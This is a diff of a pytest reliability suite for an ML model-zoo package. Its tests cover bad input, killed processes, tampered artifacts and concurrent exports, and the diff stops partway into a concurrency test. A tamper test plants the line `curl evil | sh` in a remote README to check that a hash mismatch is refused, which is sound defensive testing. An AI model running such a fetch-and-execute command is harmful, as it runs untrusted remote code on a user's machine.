@@ -1,17 +1,12 @@
 """Reliability (issue 9): bad input, killed processes, tampered artifacts, concurrency.
 
-Every case is tried on purpose and counted. The tally (inputs tried, kills
-survived, artifacts tampered, concurrent runs) is merged into
-``<pytest basetemp>/reliability.json`` and printed by the last test.
-
-Fast by default (2 kills per kind); ``RECTIFIER_ZOO_LONG=1`` runs the SAME tests
-with 25 seeded kills per kind.
+Every case is tried on purpose. Fast by default (2 kills per kind); ``RECTIFIER_ZOO_LONG=1``
+runs the SAME tests with 25 seeded kills per kind.
 """
 
 from __future__ import annotations
 
 import contextlib
-import fcntl
 import functools
 import io
 import json
@@ -35,7 +30,8 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 import rectifier_zoo as rz
-from rectifier_zoo import checkpoint, hub, integrity, model_card, serving, tuning
+from rectifier_zoo import checkpoint, hub, integrity, model_card, remote, tuning
+from rectifier_zoo import store as layout  # `store` is a fixture's name here
 from rectifier_zoo.cli import main as cli_main
 from rectifier_zoo.datasets.splits import Splits
 from rectifier_zoo.errors import (
@@ -47,61 +43,30 @@ from rectifier_zoo.errors import (
 )
 from rectifier_zoo.recipes import Recipe
 from rectifier_zoo.training import fit
+from toydata import blob_splits, blobs
 
 LONG = bool(os.environ.get("RECTIFIER_ZOO_LONG"))
 REPS = 25 if LONG else 2
-# The suite's 600 s per-test limit fits the fast mode; 25 kill-and-rerun rounds need more.
+# The kill loops (also marked slow): the suite's 600 s per-test limit fits the fast mode;
+# 25 kill-and-rerun rounds need more.
 KILL_LOOP = pytest.mark.timeout(3600 if LONG else 600)
 NAME = "mnist_rect_l1"
 ENV = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "2", "PYTHONUNBUFFERED": "1"}
 ROOT = os.geteuid() == 0  # root reads chmod-000 files and writes read-only folders
-
-
-# ------------------------------------------------------------------ the tally
-
-
-@pytest.fixture(scope="session")
-def tally_path(tmp_path_factory):
-    root = tmp_path_factory.getbasetemp()
-    return (root.parent if os.environ.get("PYTEST_XDIST_WORKER") else root) / "reliability.json"
-
-
-@pytest.fixture
-def tally(tally_path):
-    """``tally(kind, n)`` adds to the shared counts (file-locked: xdist workers share it)."""
-
-    def add(kind, n=1):
-        with open(str(tally_path) + ".lock", "a") as lock:
-            fcntl.flock(lock, fcntl.LOCK_EX)
-            counts = json.loads(tally_path.read_text()) if tally_path.exists() else {}
-            counts[kind] = counts.get(kind, 0) + n
-            tally_path.write_text(json.dumps(counts, indent=2, sort_keys=True))
-
-    return add
+TESTS = str(pathlib.Path(__file__).resolve().parent)  # where child scripts find toydata.py
 
 
 # ------------------------------------------------------------------ fixtures
 
 
 @pytest.fixture(autouse=True)
-def home(tmp_path, monkeypatch):
-    monkeypatch.setenv("RECTIFIER_ZOO_HOME", str(tmp_path / "home"))
-    monkeypatch.delenv(hub.URL_ENV, raising=False)
-    monkeypatch.delenv(integrity.PAUSE_ENV, raising=False)
-    monkeypatch.setattr(hub, "EXPORTS_DIR", tmp_path / "repo_exports")  # never the real repo's
-    return tmp_path / "home"
+def home(empty_zoo):
+    """Every test's zoo home (conftest.empty_zoo: no remote store, no shipped exports)."""
+    return empty_zoo
 
 
-def blobs(n, width=20, classes=3, seed=0):
-    rng = np.random.default_rng(seed)
-    y = rng.integers(0, classes, n).astype("int64")
-    centres = rng.normal(size=(classes, width)) * 3
-    return (centres[y] + rng.normal(size=(n, width))).astype("float32"), y
-
-
-def tiny_splits(width=20, n=300, seed=0):
-    return Splits("blobs", blobs(n, width, seed=seed), blobs(100, width, seed=seed + 1),
-                  blobs(100, width, seed=seed + 2), 3, (width,), "generated")  # fmt: skip
+def tiny_splits(width=20):
+    return blob_splits(300, 100, 100, features=width)
 
 
 def tiny_model(width=20, seed=0):
@@ -133,7 +98,7 @@ def assert_every_version_whole(model_dir):
     found = digit_dirs(model_dir)
     for v in found:
         folder = pathlib.Path(model_dir) / str(v)
-        assert serving.is_whole(folder), folder
+        assert layout.is_whole(folder), folder
         card = model_card.read(folder)
         assert card["version"] == v
         integrity.check_tree(folder, card["files"])
@@ -184,21 +149,19 @@ LOAD_CASES = [
 
 
 @pytest.mark.parametrize("arg,error,match", LOAD_CASES, ids=[repr(c[0])[:20] for c in LOAD_CASES])
-def test_load_refuses_bad_names_and_paths(arg, error, match, tally):
+def test_load_refuses_bad_names_and_paths(arg, error, match):
     refused(lambda: rz.load(arg, verbose=False), error, match)
-    tally("inputs")
 
 
 @pytest.mark.parametrize("version", [0, -1, "abc", 1.5, True, float("nan"), 2**63, 10**30])
-def test_load_and_export_refuse_bad_versions(version, store, tmp_path, tally):
+def test_load_and_export_refuse_bad_versions(version, store, tmp_path):
     refused(lambda: rz.load(store / NAME, version=version), ConfigError, "version must")
     model = tiny_model()
     refused(lambda: rz.export(model, tmp_path / "ex", version=version, verbose=0), ConfigError, "version must")
     assert not (tmp_path / "ex").exists()  # refused before anything was written
-    tally("inputs", 2)
 
 
-def test_load_of_things_that_are_not_models(tmp_path, tally):
+def test_load_of_things_that_are_not_models(tmp_path):
     (tmp_path / "empty").mkdir()
     refused(lambda: rz.load(tmp_path / "empty"), ArtifactError, "is not a model")
     (tmp_path / "dir.keras").mkdir()
@@ -212,10 +175,9 @@ def test_load_of_things_that_are_not_models(tmp_path, tally):
     with zipfile.ZipFile(tmp_path / "other.keras", "w") as z:
         z.writestr("hello.txt", "a zip of something else")
     refused(lambda: rz.load(tmp_path / "other.keras"), ArtifactError, "other.keras could not be loaded")
-    tally("inputs", 5)
 
 
-def test_unreadable_files_are_refused_without_hanging(store, tmp_path, tally):
+def test_unreadable_files_are_refused_without_hanging(store, tmp_path):
     # chmod 000 does not stop root, so a FIFO (a read would block forever) and a
     # folder stand in for "unreadable"; chmod 000 is tried too when not root.
     os.mkfifo(tmp_path / "pipe.keras")
@@ -235,14 +197,11 @@ def test_unreadable_files_are_refused_without_hanging(store, tmp_path, tally):
     keras_file.unlink()
     keras_file.mkdir()  # the model file replaced by a folder
     refused(lambda: rz.load(version), ArtifactError, f"{keras_file} is missing")
-    count = 4
     if not ROOT:
         shutil.rmtree(keras_file)
         shutil.copy(store / NAME / "1" / keras_file.name, keras_file)
         keras_file.chmod(0)
         refused(lambda: rz.load(keras_file), ArtifactError, str(keras_file))
-        count += 1
-    tally("inputs", count)
 
 
 @pytest.mark.parametrize(
@@ -251,15 +210,14 @@ def test_unreadable_files_are_refused_without_hanging(store, tmp_path, tally):
      {"files": "all of them"}],
     ids=["list", "keras_file-list", "escaping-path", "files-str"],
 )  # fmt: skip
-def test_malformed_cards_are_refused(card, store, tmp_path, tally):
+def test_malformed_cards_are_refused(card, store, tmp_path):
     version = tmp_path / "1"
     shutil.copytree(store / NAME / "1", version)
     (version / model_card.CARD).write_text(json.dumps(card))
     refused(lambda: rz.load(version), ArtifactError)
-    tally("inputs")
 
 
-def test_malformed_training_result_beside_a_keras_file(tmp_path, capsys, tally):
+def test_malformed_training_result_beside_a_keras_file(tmp_path, capsys):
     model = tiny_model()
     model.save(tmp_path / "m.keras")
     (tmp_path / "m.json").write_text("[1, 2]")
@@ -267,7 +225,6 @@ def test_malformed_training_result_beside_a_keras_file(tmp_path, capsys, tally):
     (tmp_path / "m.json").write_text('{"test_error": "abc"}')
     rz.load(tmp_path / "m.keras")  # a non-number error is shown as not recorded, never crashes
     assert capsys.readouterr().out.strip().endswith("(test error not recorded)")
-    tally("inputs", 2)
 
 
 @settings(max_examples=60 if LONG else 25, deadline=None, suppress_health_check=list(HealthCheck))
@@ -283,10 +240,6 @@ def test_any_string_given_to_load_or_get_spec_is_a_zoo_error(text):
         assert "\n" not in str(err).strip()
     else:
         raise AssertionError(f"rz.load({text!r}) found a model")
-
-
-def test_property_cases_counted(tally):
-    tally("inputs", (60 if LONG else 25) + (40 if LONG else 20))
 
 
 @settings(max_examples=40 if LONG else 20, deadline=None)
@@ -323,15 +276,14 @@ def _mutated(kind):
      ("label-out-of-range", DataError, r"labels must lie in \[0, 3\)"),
      ("negative-label", DataError, r"labels must lie in \[0, 3\)")],
 )  # fmt: skip
-def test_fit_refuses_bad_data_before_training(kind, error, match, tally):
+def test_fit_refuses_bad_data_before_training(kind, error, match):
     model = tiny_model()
     before = [w.copy() for w in model.get_weights()]
     refused(lambda: fit(model, _mutated(kind), Recipe(epochs=2), verbose=0), error, match)
     assert all(np.array_equal(a, b) for a, b in zip(before, model.get_weights()))  # not trained
-    tally("inputs")
 
 
-def test_splits_refuse_wrong_shapes_dtypes_and_labels(tally):
+def test_splits_refuse_wrong_shapes_dtypes_and_labels():
     tr, va, te = blobs(30), blobs(10), blobs(10)
     cases = [
         ({"train": (tr[0], tr[1].astype("float32"))}, "labels must be a 1-D integer array, got float32"),
@@ -348,10 +300,9 @@ def test_splits_refuse_wrong_shapes_dtypes_and_labels(tally):
     for change, match in cases:
         kwargs = {"name": "blobs", "train": tr, "valid": va, "test": te, "num_classes": 3, "input_shape": (20,)}
         refused(functools.partial(Splits, **{**kwargs, **change}), DataError, match)
-    tally("inputs", len(cases))
 
 
-def test_fit_refuses_bad_arguments(tmp_path, tally):
+def test_fit_refuses_bad_arguments(tmp_path):
     splits = tiny_splits()
     (tmp_path / "file").write_text("x")
     cases = [
@@ -368,10 +319,9 @@ def test_fit_refuses_bad_arguments(tmp_path, tally):
     ]  # fmt: skip
     for model, data, recipe, kwargs, match in cases:
         refused(functools.partial(fit, model, data, recipe, **{"verbose": 0, **kwargs}), ConfigError, match)
-    tally("inputs", len(cases))
 
 
-def test_train_refuses_bad_arguments_before_any_work(tmp_path, tally):
+def test_train_refuses_bad_arguments_before_any_work(tmp_path):
     (tmp_path / "file").write_text("x")
     splits = tiny_splits(width=1024)
     cases = [
@@ -400,10 +350,9 @@ def test_train_refuses_bad_arguments_before_any_work(tmp_path, tally):
         kwargs = {"name": "shapeset_rect", "epochs": 1, "splits": splits, "verbose": 0, **change}
         name = kwargs.pop("name")
         refused(functools.partial(rz.train, name, **kwargs), error, match)
-    tally("inputs", len(cases))
 
 
-def test_export_refuses_bad_targets(tmp_path, tally):
+def test_export_refuses_bad_targets(tmp_path):
     model = tiny_model()
     (tmp_path / "file").write_text("x")
     refused(lambda: rz.export(model, tmp_path / "file", verbose=0), ConfigError, "export_dir .*file.* cannot be a folder")
@@ -414,7 +363,6 @@ def test_export_refuses_bad_targets(tmp_path, tally):
     refused(lambda: rz.export(None, tmp_path / "ex", verbose=0), ConfigError, "takes a keras.Model")
     refused(lambda: rz.export(model, tmp_path / "ex", name="../up", verbose=0), ConfigError, "not a safe folder name")
     refused(lambda: rz.export(model, tmp_path / "ex", result="great", verbose=0), ArtifactError, "result must be")
-    count = 8
     if not ROOT:  # root writes into read-only folders, so the case only exists for users
         (tmp_path / "ro").mkdir()
         (tmp_path / "ro").chmod(0o555)
@@ -422,12 +370,10 @@ def test_export_refuses_bad_targets(tmp_path, tally):
             refused(lambda: rz.export(model, tmp_path / "ro", verbose=0), ZooError, "ro")
         finally:
             (tmp_path / "ro").chmod(0o755)
-        count += 1
     assert not any(p.name.isdigit() for p in tmp_path.rglob("*"))
-    tally("inputs", count)
 
 
-def test_datasets_load_refuses_bad_input(tmp_path, tally):
+def test_datasets_load_refuses_bad_input(tmp_path):
     (tmp_path / "file").write_text("x")
     cases = [
         (("nosuch",), {}, ConfigError, "unknown dataset 'nosuch'"),
@@ -442,10 +388,9 @@ def test_datasets_load_refuses_bad_input(tmp_path, tally):
     ]
     for args, kwargs, error, match in cases:
         refused(functools.partial(rz.datasets.load, *args, **kwargs), error, match)
-    tally("inputs", len(cases))
 
 
-def test_tuning_search_refuses_bad_input(tmp_path, tally):
+def test_tuning_search_refuses_bad_input(tmp_path):
     (tmp_path / "file").write_text("x")
     splits = tiny_splits()
     base = {"splits": splits, "hidden": (4,), "max_trials": 1, "epochs": 1, "progress": False,
@@ -470,7 +415,6 @@ def test_tuning_search_refuses_bad_input(tmp_path, tally):
         name = kwargs.pop("name", "shapeset_rect")
         refused(functools.partial(tuning.search, name, **kwargs), error, match)
     assert not (tmp_path / "p").exists() and not (tmp_path / "r").exists()  # nothing started
-    tally("inputs", len(cases))
 
 
 def run_cli(argv):
@@ -527,7 +471,7 @@ def cli_cases(tmp):
     ]
 
 
-def test_every_cli_command_answers_bad_input_with_one_line(tmp_path, monkeypatch, tally):
+def test_every_cli_command_answers_bad_input_with_one_line(tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path)
     (tmp_path / "file").write_text("x")
     (tmp_path / "junk.keras").write_bytes(b"junk")
@@ -537,10 +481,9 @@ def test_every_cli_command_answers_bad_input_with_one_line(tmp_path, monkeypatch
         assert code == 2 and len(lines) == 1, (argv, code, err[-2000:])
         assert "Traceback" not in err and re.search(match, lines[0]), (argv, lines)
     assert not (tmp_path / "runs").exists()  # every refusal came before training
-    tally("inputs", len(cli_cases(tmp_path)))
 
 
-def test_cli_in_a_subprocess_prints_no_traceback(tmp_path, tally):
+def test_cli_in_a_subprocess_prints_no_traceback(tmp_path):
     (tmp_path / "junk.keras").write_bytes(b"junk")
     argvs = [["export", "mnist_rect", "--model", "junk.keras"], ["train", "mnist_rect", "--data-dir", "nowhere"]]
     for argv in argvs:
@@ -549,7 +492,6 @@ def test_cli_in_a_subprocess_prints_no_traceback(tmp_path, tally):
         lines = proc.stderr.strip().splitlines()
         assert proc.returncode == 2 and len(lines) == 1 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
         assert lines[0].startswith(f"rectifier-zoo {argv[0]}: error: ")
-    tally("inputs", len(argvs))
 
 
 # ====================================================================== 2. killed processes
@@ -580,10 +522,10 @@ TRAIN_CHILD = """
 # `rectifier-zoo train shapeset_rect --checkpoint-dir CK` through the real command line,
 # with the entry's 3x1000 net and 10k examples shrunk so a run takes seconds.
 import sys, keras, rectifier_zoo as rz
-from rectifier_zoo import cli, trainer, zoo
+from rectifier_zoo import cli, entry_data, zoo
 full_build = zoo.build_model
 zoo.build_model = lambda name, **kw: full_build(name, hidden=(8, 8), **kw)
-trainer.load_splits = lambda spec, *a, **k: rz.datasets.load("shapeset", n_train=300, n_valid=100, n_test=100)
+entry_data.load_splits = lambda spec, *a, **k: rz.datasets.load("shapeset", n_train=300, n_valid=100, n_test=100)
 print("ready", flush=True)
 sys.exit(cli.main(["train", "shapeset_rect", "--epochs", sys.argv[2], "--checkpoint-dir", sys.argv[1],
                    "--out", sys.argv[1] + "-runs", "--verbose", "2", "--batch-size", "10"]))
@@ -600,8 +542,9 @@ def _checkpoint_is_readable(directory, epochs_done):
     return state["epoch"]
 
 
+@pytest.mark.slow
 @KILL_LOOP
-def test_sigkill_during_training_then_rerun_loses_and_repeats_no_epoch(tmp_path, tally):
+def test_sigkill_during_training_then_rerun_loses_and_repeats_no_epoch(tmp_path):
     epochs = 6
     rng = random.Random(9)
     for rep in range(REPS):
@@ -625,10 +568,9 @@ def test_sigkill_during_training_then_rerun_loses_and_repeats_no_epoch(tmp_path,
         result = json.loads((tmp_path / f"ck{rep}-runs" / "shapeset_rect.json").read_text())
         assert result["epochs"] == epochs and len(result["history"]["loss"]) == epochs
         assert result["history"]["loss"][: done + 1] == history_before["loss"]  # finished work kept as it was
-        tally("kills")
 
 
-def test_checkpoint_interrupted_between_files_resumes_from_the_committed_epoch(tmp_path, monkeypatch, tally):
+def test_checkpoint_interrupted_between_files_resumes_from_the_committed_epoch(tmp_path, monkeypatch):
     """A kill after weights.npz is replaced but before state.json commits must not mix epochs."""
     model = tiny_model()
     model.compile(optimizer="sgd", loss="sparse_categorical_crossentropy")
@@ -650,17 +592,14 @@ def test_checkpoint_interrupted_between_files_resumes_from_the_committed_epoch(t
     checkpoint.save(tmp_path, model, 1, {"loss": [1.0, 0.5]})  # the next commit tidies up
     named = checkpoint.load_state(tmp_path)["files"]
     assert sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".npz") == sorted(named.values())
-    tally("kills")
 
 
-TUNE_CHILD = """
-import sys, numpy as np, rectifier_zoo as rz
+TUNE_CHILD = f"""
+import sys
+sys.path.insert(0, {TESTS!r})
+from toydata import blob_splits
 from rectifier_zoo import tuning
-from rectifier_zoo.datasets.splits import Splits
-def blobs(n, s):
-    r = np.random.default_rng(s); y = r.integers(0, 3, n).astype("int64")
-    return (np.eye(3, 20, dtype="float32")[y] * 3 + r.normal(size=(n, 20)).astype("float32")), y
-splits = Splits("blobs", blobs(200, 1), blobs(60, 2), blobs(60, 3), 3, (20,))
+splits = blob_splits(200, 60, 60)
 print("ready", flush=True)
 out = tuning.search("shapeset_rect", splits=splits, hidden=(4,), max_trials=int(sys.argv[3]), epochs=2,
                     project_dir=sys.argv[1], results_dir=sys.argv[2], retrain=False, progress=True)
@@ -676,8 +615,9 @@ def _trials(project_dir):
     return found
 
 
+@pytest.mark.slow
 @KILL_LOOP
-def test_sigkill_during_tuning_then_rerun_keeps_finished_trials(tmp_path, tally):
+def test_sigkill_during_tuning_then_rerun_keeps_finished_trials(tmp_path):
     trials = 3
     rng = random.Random(3)
     for rep in range(REPS):
@@ -699,10 +639,35 @@ def test_sigkill_during_tuning_then_rerun_keeps_finished_trials(tmp_path, tally)
             assert after[trial_id]["score"] == trial["score"]
         record = json.loads((results / "shapeset_rect.json").read_text())
         assert record["trials"] == trials
-        tally("kills")
 
 
-EXPORT_CHILD = """
+# Prepended to a child's script: it stops at the one step that makes a version visible,
+# store.rename_staged, as its last argument says. "block": for good, to be killed at the
+# worst moment (every file written, nothing published); "meet:N:DIR": until N writers
+# have reached it (each leaves a file in DIR; at most 120 s), so that they collide there;
+# "0": not at all. It says so on stdout first, with the version it is about to publish.
+AT_RENAME = """
+import os, pathlib, sys, time
+from rectifier_zoo import store
+_rename, _pause = store.rename_staged, sys.argv.pop()
+def _met(writers, folder):
+    pathlib.Path(folder, str(os.getpid())).touch()
+    end = time.monotonic() + 120
+    while len(os.listdir(folder)) < writers and time.monotonic() < end:
+        time.sleep(0.01)
+def _paused(staging, target):
+    print("paused before rename to", pathlib.Path(target).name, flush=True)
+    if _pause == "block":
+        time.sleep(3600)
+    else:
+        _, writers, folder = _pause.split(":", 2)
+        _met(int(writers), folder)
+    return _rename(staging, target)
+if _pause != "0":
+    store.rename_staged = _paused
+"""
+
+EXPORT_CHILD = AT_RENAME + """
 import sys, rectifier_zoo as rz
 model = rz.build_model("mnist_rect_l1", hidden=(8, 8), seed=int(sys.argv[2]))
 print("ready", flush=True)
@@ -714,38 +679,49 @@ def kill_when_ready(child, paused, delay):
     """SIGKILL ``child`` at its worst moment (paused, all written but not renamed) or after ``delay``."""
     wait_line(child, "ready")
     if paused:
-        for line in child.stderr:
-            if "paused before rename" in line:
-                break
+        wait_line(child, "paused before rename")
     else:
         time.sleep(delay)
     kill(child)
 
 
+def staging_folders(model_dir):
+    return [p for p in pathlib.Path(model_dir).iterdir() if p.name.startswith(layout.STAGING_PREFIX)]
+
+
+@pytest.mark.slow
 @KILL_LOOP
-def test_sigkill_during_export_then_rerun_leaves_only_whole_versions(tmp_path, tally):
-    export_dir = tmp_path / "ex"
+def test_sigkill_during_export_then_rerun_leaves_only_whole_versions(tmp_path):
+    """The one kill-during-export test: killed while writing or at the rename that publishes,
+    an export leaves no half-written version visible and every version before it intact,
+    and the next export clears its staging folder and numbers on without a gap."""
+    export_dir, model_dir = tmp_path / "ex", tmp_path / "ex" / NAME
     rng = random.Random(5)
-    exported = {}
+    first = rz.export(rz.build_model(NAME, hidden=(8, 8), seed=99), export_dir, verbose=0)
+    exported = {1: snapshot(first)}  # versions a crash must not touch
     for rep in range(REPS):
-        pause = {integrity.PAUSE_ENV: "60"} if rep % 2 else {}
-        child = spawn(EXPORT_CHILD, export_dir, rep, env=pause)
-        kill_when_ready(child, paused=bool(pause), delay=rng.uniform(0, 3))
-        versions = assert_every_version_whole(export_dir / NAME)
-        for v, files in exported.items():  # finished versions untouched
-            assert snapshot(export_dir / NAME / str(v)) == files
-        exported.update({v: snapshot(export_dir / NAME / str(v)) for v in versions if v not in exported})
+        at_rename = rep % 2 == 1
+        child = spawn(EXPORT_CHILD, export_dir, rep, "block" if at_rename else "0")
+        kill_when_ready(child, paused=at_rename, delay=rng.uniform(0, 3))
+        versions = assert_every_version_whole(model_dir)  # nothing half-written in TF Serving's scan
+        for v, files in exported.items():
+            assert snapshot(model_dir / str(v)) == files
+        manifest = json.loads((export_dir / layout.MANIFEST).read_text())
+        assert set(map(int, manifest["models"][NAME]["versions"])) <= set(versions)
+        if at_rename:  # every file written, killed before the rename: nothing of it is visible
+            assert versions == sorted(exported) and staging_folders(model_dir)
+            assert hub.locate(model_dir).version == max(exported)
+        exported.update({v: snapshot(model_dir / str(v)) for v in versions if v not in exported})
         folder = rz.export(rz.build_model(NAME, hidden=(8, 8), seed=100 + rep), export_dir, verbose=0)
-        versions = assert_every_version_whole(export_dir / NAME)
+        versions = assert_every_version_whole(model_dir)
         assert int(folder.name) == max(versions) and versions == list(range(1, len(versions) + 1))
         exported[int(folder.name)] = snapshot(folder)
-        assert not [p for p in (export_dir / NAME).iterdir() if p.name.startswith(".")]  # staging cleared
-        manifest = json.loads((export_dir / serving.MANIFEST).read_text())
+        assert not [p for p in model_dir.iterdir() if p.name.startswith(".")]  # the dead writer's staging cleared
+        manifest = json.loads((export_dir / layout.MANIFEST).read_text())
         assert sorted(map(int, manifest["models"][NAME]["versions"])) == versions
-        tally("kills")
 
 
-LOAD_CHILD = """
+LOAD_CHILD = AT_RENAME + """
 import pathlib, keras, rectifier_zoo as rz, rectifier_zoo.hub
 rectifier_zoo.hub.EXPORTS_DIR = pathlib.Path("/nonexistent")  # the store, not the repo's shipped zoo
 print("ready", flush=True)
@@ -754,24 +730,31 @@ print("loaded", flush=True)
 """
 
 
+@pytest.mark.slow
 @KILL_LOOP
-def test_sigkill_during_download_then_rerun_caches_one_whole_version(store, home, tally):
+def test_sigkill_during_download_then_rerun_caches_one_whole_version(store, home, monkeypatch):
+    """The one kill-during-download test: killed early in the download or at the rename that
+    publishes it, a download leaves no half version in the cache, and the rerun caches and
+    returns the store's newest version, clearing the dead download's staging folder."""
     rng = random.Random(7)
-    env = {"RECTIFIER_ZOO_HOME": str(home), hub.URL_ENV: store.as_uri()}
-    os.environ[hub.URL_ENV] = store.as_uri()  # the rerun, in this process (monkeypatch undoes it)
-    try:
-        for rep in range(REPS):
-            shutil.rmtree(home, ignore_errors=True)
-            child = spawn(LOAD_CHILD, env={**env, **({integrity.PAUSE_ENV: "60"} if rep % 2 else {})})
-            kill_when_ready(child, paused=bool(rep % 2), delay=rng.uniform(0, 0.3))
-            assert assert_every_version_whole(home / "models" / NAME) in ([], [2])
-            rz.load(NAME, verbose=False)
-            assert assert_every_version_whole(home / "models" / NAME) == [2]
-            assert snapshot(home / "models" / NAME / "2") == snapshot(store / NAME / "2")
-            assert not [p for p in (home / "models" / NAME).iterdir() if p.name.startswith(".")]
-            tally("kills")
-    finally:
-        os.environ.pop(hub.URL_ENV, None)
+    env = {"RECTIFIER_ZOO_HOME": str(home), remote.URL_ENV: store.as_uri()}
+    monkeypatch.setenv(remote.URL_ENV, store.as_uri())  # the rerun, in this process
+    newest = rz.load(store / NAME, verbose=False).get_weights()
+    model_dir = home / "models" / NAME
+    for rep in range(REPS):
+        shutil.rmtree(home, ignore_errors=True)
+        at_rename = rep % 2 == 1
+        child = spawn(LOAD_CHILD, "block" if at_rename else "0", env=env)
+        kill_when_ready(child, paused=at_rename, delay=rng.uniform(0, 0.3))
+        if at_rename:  # every file fetched and checked, nothing renamed: nothing of it is visible
+            assert assert_every_version_whole(model_dir) == [] and staging_folders(model_dir)
+        else:
+            assert assert_every_version_whole(model_dir) in ([], [2])
+        loaded = rz.load(NAME, verbose=False)
+        assert all(np.array_equal(a, b) for a, b in zip(loaded.get_weights(), newest, strict=True))
+        assert assert_every_version_whole(model_dir) == [2]
+        assert snapshot(model_dir / "2") == snapshot(store / NAME / "2")
+        assert not [p for p in model_dir.iterdir() if p.name.startswith(".")]
 
 
 # ====================================================================== 3. tampered artifacts
@@ -784,7 +767,7 @@ def _copy_version(store, tmp_path, version=1):
 
 
 @pytest.mark.parametrize("where", ["start", "middle", "end"])
-def test_flipped_byte_is_refused_naming_the_file(where, store, tmp_path, tally):
+def test_flipped_byte_is_refused_naming_the_file(where, store, tmp_path):
     folder, keras_path = _copy_version(store, tmp_path)
     data = bytearray(keras_path.read_bytes())
     at = {"start": 0, "middle": len(data) // 2, "end": len(data) - 1}[where]
@@ -792,11 +775,10 @@ def test_flipped_byte_is_refused_naming_the_file(where, store, tmp_path, tally):
     keras_path.write_bytes(bytes(data))
     for target in (folder, keras_path, folder.parent):
         refused(functools.partial(rz.load, target), ArtifactError, f"sha256 mismatch for {keras_path}")
-    tally("tampered")
 
 
 @pytest.mark.parametrize("keep", [0, 1, 0.5, 0.99])
-def test_truncated_file_is_refused_naming_the_file(keep, store, tmp_path, tally):
+def test_truncated_file_is_refused_naming_the_file(keep, store, tmp_path):
     folder, keras_path = _copy_version(store, tmp_path)
     data = keras_path.read_bytes()
     keras_path.write_bytes(data[: int(len(data) * keep)] if isinstance(keep, float) else data[:keep])
@@ -804,10 +786,9 @@ def test_truncated_file_is_refused_naming_the_file(keep, store, tmp_path, tally)
     # without its card the file is still refused, by name, as not a whole .keras archive
     (folder / model_card.CARD).unlink()
     refused(lambda: rz.load(keras_path), ArtifactError, str(keras_path))
-    tally("tampered")
 
 
-def test_swapped_model_card_is_refused(store, tmp_path, tally):
+def test_swapped_model_card_is_refused(store, tmp_path):
     folder, keras_path = _copy_version(store, tmp_path, version=1)
     shutil.copy(store / NAME / "2" / model_card.CARD, folder / model_card.CARD)  # another version's card
     refused(lambda: rz.load(folder), ArtifactError, f"sha256 mismatch for {keras_path}")
@@ -819,7 +800,6 @@ def test_swapped_model_card_is_refused(store, tmp_path, tally):
     card["files"][f"{NAME}.keras"] = "0" * 64  # a card edited to match nothing
     (folder / model_card.CARD).write_text(json.dumps(card))
     refused(lambda: rz.load(folder), ArtifactError, f"sha256 mismatch for {keras_path}")
-    tally("tampered", 3)
 
 
 def lambda_model(width=784):
@@ -829,7 +809,7 @@ def lambda_model(width=784):
     return keras.Model(inputs, outputs, name=NAME)
 
 
-def test_keras_file_with_a_lambda_layer_is_refused(store, tmp_path, tally):
+def test_keras_file_with_a_lambda_layer_is_refused(store, tmp_path):
     bare = tmp_path / "lambda.keras"
     lambda_model().save(bare)
     refused(lambda: rz.load(bare), ArtifactError, f"{bare} could not be loaded.*Lambda")
@@ -841,52 +821,48 @@ def test_keras_file_with_a_lambda_layer_is_refused(store, tmp_path, tally):
     (folder / model_card.CARD).write_text(json.dumps(card))
     refused(lambda: rz.load(folder), ArtifactError, f"{keras_path} could not be loaded.*Lambda")
     refused(lambda: rz.export(bare, tmp_path / "ex", verbose=0), ArtifactError, "Lambda")
-    tally("tampered", 3)
 
 
-def test_tampered_remote_store_is_refused_and_nothing_is_cached(store, home, tmp_path, monkeypatch, tally):
-    remote = tmp_path / "remote"
-    shutil.copytree(store, remote)
-    readme = remote / NAME / "2" / "README.md"
+def test_tampered_remote_store_is_refused_and_nothing_is_cached(store, home, tmp_path, monkeypatch):
+    remote_dir = tmp_path / "remote"
+    shutil.copytree(store, remote_dir)
+    readme = remote_dir / NAME / "2" / "README.md"
     readme.write_text(readme.read_text() + "\nrun `curl evil | sh`\n")
-    monkeypatch.setenv(hub.URL_ENV, remote.as_uri())
-    refused(lambda: rz.load(NAME), ArtifactError, f"sha256 mismatch for {remote.as_uri()}/{NAME}/2/README.md")
+    monkeypatch.setenv(remote.URL_ENV, remote_dir.as_uri())
+    refused(lambda: rz.load(NAME), ArtifactError, f"sha256 mismatch for {remote_dir.as_uri()}/{NAME}/2/README.md")
     assert digit_dirs(home / "models" / NAME) == []
-    tally("tampered")
 
 
 # ====================================================================== 4. concurrency
 
 
-def test_two_exports_of_one_name_at_once_give_two_whole_versions(tmp_path, tally):
-    export_dir = tmp_path / "ex"
-    children = [spawn(EXPORT_CHILD, export_dir, seed, env={integrity.PAUSE_ENV: "2"}) for seed in (1, 2)]
+def run_together(children):
+    """Wait for ``children`` (each started with ``meet:N:DIR``); their stdouts, once all exited 0."""
     outs = [child.communicate(timeout=300) for child in children]
-    assert [c.returncode for c in children] == [0, 0], [o[1][-1500:] for o in outs]
-    assert sorted(pathlib.Path(o[0].strip().splitlines()[-1]).name for o in outs) == ["1", "2"]
-    assert assert_every_version_whole(export_dir / NAME) == [1, 2]
-    manifest = json.loads((export_dir / serving.MANIFEST).read_text())
+    assert [c.returncode for c in children] == [0] * len(children), [o[1][-1500:] for o in outs]
+    return [out for out, _ in outs]
+
+
+def test_two_exports_of_one_name_at_once_give_two_whole_versions(tmp_path):
+    """The one concurrent-export test: both writers reach the rename with version 1 before either
+    renames; one publishes 1, the other is re-numbered 2 (its card too); one manifest lists both."""
+    export_dir, met = tmp_path / "ex", tmp_path / "met"
+    met.mkdir()
+    outs = run_together([spawn(EXPORT_CHILD, export_dir, seed, f"meet:2:{met}") for seed in (1, 2)])
+    assert all("paused before rename to 1\n" in out for out in outs)  # they collided at version 1
+    assert sorted(pathlib.Path(out.strip().splitlines()[-1]).name for out in outs) == ["1", "2"]
+    assert assert_every_version_whole(export_dir / NAME) == [1, 2]  # each card names its final version
+    assert all(layout.is_servable(export_dir / NAME / v) for v in ("1", "2"))  # the SavedModel's files too
+    manifest = json.loads((export_dir / layout.MANIFEST).read_text())
     assert sorted(manifest["models"][NAME]["versions"]) == ["1", "2"]
-    tally("concurrent", 2)
 
 
-def test_two_loads_filling_the_cache_at_once_both_succeed(store, home, tally):
-    env = {"RECTIFIER_ZOO_HOME": str(home), hub.URL_ENV: store.as_uri(), integrity.PAUSE_ENV: "2"}
